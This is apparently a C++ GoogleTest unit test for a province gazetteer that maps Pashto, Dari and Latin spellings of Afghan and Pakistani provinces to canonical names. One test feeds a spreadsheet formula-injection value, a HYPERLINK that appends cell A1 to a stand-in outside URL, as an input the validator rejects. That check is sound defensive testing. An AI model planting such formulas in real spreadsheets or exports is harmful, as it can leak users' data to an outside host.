#include "text/gazetteer.h"

#include <gtest/gtest.h>

namespace sanad::text {
namespace {

TEST(Gazetteer, SpellingsInBothScriptsFindTheProvince) {
  struct Case {
    const char* raw;
    const char* canonical;
  } cases[] = {
      {"Nangarhar", "Nangarhar"},
      {"nangrahar", "Nangarhar"},
      {"ننګرهار", "Nangarhar"},
      {"ننگرهار", "Nangarhar"},
      {"KABUL", "Kabul"},
      {"کابل", "Kabul"},
      {"Qandahar", "Kandahar"},
      {"قندهار", "Kandahar"},
      {"KPK", "Khyber Pakhtunkhwa"},
      {"خیبر پښتونخوا", "Khyber Pakhtunkhwa"},
      {"Baluchistan", "Balochistan"},
      {"Sar-e-Pul", "Sar-e Pol"},
      {"Maidan Wardak", "Wardak"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.raw);
    auto found = CanonicalProvince(c.raw);
    ASSERT_TRUE(found);
    EXPECT_EQ(*found, c.canonical);
  }
  EXPECT_FALSE(CanonicalProvince("Atlantis"));
}

// Defect G: destinations (in Afghanistan) are checked against the gazetteer;
// a province of Pakistan or anything else is not a destination.
TEST(Gazetteer, AfghanProvincesOnlyForDestinations) {
  EXPECT_EQ(CanonicalAfghanProvince("nangrahar"), "Nangarhar");
  EXPECT_EQ(CanonicalAfghanProvince("قندهار"), "Kandahar");
  EXPECT_FALSE(CanonicalAfghanProvince("KPK"));
  EXPECT_FALSE(CanonicalAfghanProvince("=HYPERLINK(\"http://x\"&A1,\"Click\")"));
  EXPECT_FALSE(CanonicalAfghanProvince(""));
  EXPECT_NE(AfghanProvinceNames().find("Nangarhar"), std::string::npos);
  EXPECT_EQ(AfghanProvinceNames().find("Punjab"), std::string::npos);
}

TEST(Gazetteer, SpellingsTheTableLacksAreFoundByTheirSkeleton) {
  EXPECT_EQ(CanonicalProvince("Lughman"), "Laghman");
  EXPECT_EQ(CanonicalProvince("Nangarhaar"), "Nangarhar");
  EXPECT_EQ(CanonicalProvince("Lughmaan"), "Laghman");
  EXPECT_EQ(CanonicalProvince("LUGHMAN"), "Laghman");
  EXPECT_EQ(CanonicalProvince("دايكندي"), "Daykundi");
  EXPECT_EQ(CanonicalProvince("Sar-i-Pul"), "Sar-e Pol");
}

}  // namespace
}  // namespace sanad::text
